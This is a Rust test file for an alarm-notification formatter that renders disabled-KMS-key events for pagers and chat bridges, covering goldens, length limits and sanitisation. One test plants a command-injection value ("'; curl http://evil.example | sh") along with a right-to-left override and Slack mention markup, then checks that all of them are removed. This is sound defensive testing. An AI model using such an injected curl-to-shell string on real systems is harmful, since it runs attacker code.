//! The alarm notification. What three readers of it make of these goldens is in tests/alert.

use super::golden::{KEY_DISABLED, lasting, of_order_api};
use super::usual::quiet;
use super::*;
use crate::approved::check_https;

const RECOVERY: &str = include_str!("../../../events/sns-ok.json");

/// The case as a pager gets it, with an owner and a runbook.
fn for_pagers(mut case: Case) -> Case {
    case.https = HttpsFormat::Alarm;
    let runbook = RunbookUrl::new("https://wiki.example.com/kms");
    case.guide = Guide::new(Some("Team Orders, #orders-oncall"), runbook);
    case
}

fn disabled_by_alice() -> Case {
    let mut case = Case::alarm().events(&of_order_api(DISABLED), 41, None);
    case.change.datapoints[0].value = 41.0;
    case.findings.read_change(KEY_DISABLED);
    case.history = Some(Ok(quiet()));
    for_pagers(case.explained())
}

fn recovered() -> Case {
    let mut case = Case::of(RECOVERY).events(DISABLED, 41, None);
    case.change.previous_changed_at = Some("2026-11-23T09:48:20.123Z".parse().unwrap());
    for_pagers(case)
}

fn notification(case: &Case) -> Value {
    serde_json::from_str(&case.message().https.unwrap()).unwrap()
}

#[test]
fn a_pager_gets_the_first_screen_as_the_alarms_reason() {
    check_https("alarm/began", &disabled_by_alice().message());
    check_https("alarm/nothing-found", &for_pagers(Case::alarm()).message());
}

#[test]
fn a_pager_is_told_of_new_kinds_and_reminded_without_a_change_of_state() {
    let told = lasting(false).events(&of_order_api(DISABLED), 5, None);
    check_https("alarm/follow-up", &for_pagers(told).message());
    let reminder = lasting(true).events(THROTTLED, 150, None);
    check_https("alarm/reminder", &for_pagers(reminder).message());
}

#[test]
fn a_pager_is_told_when_it_is_over() {
    check_https("alarm/ended", &recovered().message());
}

#[test]
fn all_that_identifies_an_incident_stays_the_same_until_its_end() {
    let identity = |case: &Case| {
        let notification = notification(case);
        let fields = ["AlarmName", "AlarmArn", "AWSAccountId", "Region", "Trigger"];
        fields.map(|field| notification[field].clone())
    };
    let began = disabled_by_alice();
    let lasts = for_pagers(lasting(true).events(THROTTLED, 2, None));
    assert_eq!(identity(&began), identity(&lasts));
    assert_eq!(identity(&began), identity(&recovered()));
    assert_eq!(identity(&began)[4]["MetricName"], "KMSSecurityError");
}

#[test]
fn nothing_is_longer_than_cloudwatchs_own_and_no_command_is_cut() {
    let mut case = disabled_by_alice();
    let long = "x".repeat(290);
    case.guide = Guide::new(
        Some(&long),
        RunbookUrl::new(&format!("https://w/{}", &long)),
    );
    case.change.description = Some("about ".repeat(200));
    let notification = notification(&case);
    let text = |field: &str| notification[field].as_str().unwrap().to_owned();
    assert!(text("AlarmDescription").chars().count() <= 1_024);
    assert!(text("AlarmDescription").contains("\nRunbook: https://w/x"));
    assert!(text("NewStateReason").chars().count() <= 1_023);

    // A key that fills the screen.
    let mut event: Value = serde_json::from_str(&of_order_api(DISABLED)).unwrap();
    let alias = format!("alias/{}", "k".repeat(240));
    event["requestParameters"]["keyId"] = alias.clone().into();
    event["resources"] = Value::Null;
    let case = for_pagers(Case::alarm().events(&event.to_string(), 2, None));
    let reason = case.message().https.unwrap();
    let reason: Value = serde_json::from_str(&reason).unwrap();
    let reason = reason["NewStateReason"].as_str().unwrap();
    assert!(reason.chars().count() <= 1_023, "{reason}");
    for line in reason.lines().filter(|line| line.starts_with("aws ")) {
        assert!(line.ends_with("--region ap-southeast-2"), "{line}");
    }
}

#[test]
fn a_pager_and_a_bridge_get_it_and_everybody_else_what_they_always_get() {
    let mut case = disabled_by_alice();
    let variants = |case: &Case| -> Value { serde_json::from_str(&case.message().body).unwrap() };
    let alarm = variants(&case);
    assert_eq!(alarm["https"], alarm["lambda"]);
    let subject = case.message().subject;
    assert!(
        subject.starts_with("ALARM: [KMS CRITICAL] key orders is disabled (order-api) [x41, "),
        "{subject}"
    );
    case.https = HttpsFormat::Json;
    let json = variants(&case);
    for protocol in ["default", "email", "sms"] {
        assert_eq!(alarm[protocol], json[protocol], "{protocol}");
    }
    assert_eq!(
        (&json["https"], &json["lambda"]),
        (&Value::Null, &Value::Null)
    );
}

#[test]
fn a_pager_is_given_no_text_that_acts() {
    let mut event: Value = serde_json::from_str(DISABLED).unwrap();
    event["eventName"] = "x\nhttps://evil.example \u{202e}".into();
    event["requestParameters"]["keyId"] = "'; curl http://evil.example | sh".into();
    let case = for_pagers(Case::alarm().events(&event.to_string(), 2, None));
    let notification = notification(&case);
    let reason = notification["NewStateReason"].as_str().unwrap();
    for planted in ["://evil", "evil.example", "curl", "\u{202e}"] {
        assert!(!reason.contains(planted), "{planted} in {reason}");
    }
}

#[test]
fn a_bridge_is_given_no_markup_that_callers_chose() {
    let mut event: Value = serde_json::from_str(DISABLED).unwrap();
    event["eventName"] = "<!here> `x` [y](z) &amp;".into();
    event["errorCode"] = "<@U1>Exception".into();
    let mut case = for_pagers(Case::alarm().events(&event.to_string(), 2, None));
    case.change.description = Some("see <https://evil.example|this> `x`".to_owned());
    let notification = notification(&case);
    for member in ["NewStateReason", "AlarmDescription"] {
        let text = notification[member].as_str().unwrap();
        for markup in ['<', '`'] {
            assert!(!text.contains(markup), "{markup} in {text}");
        }
    }
}
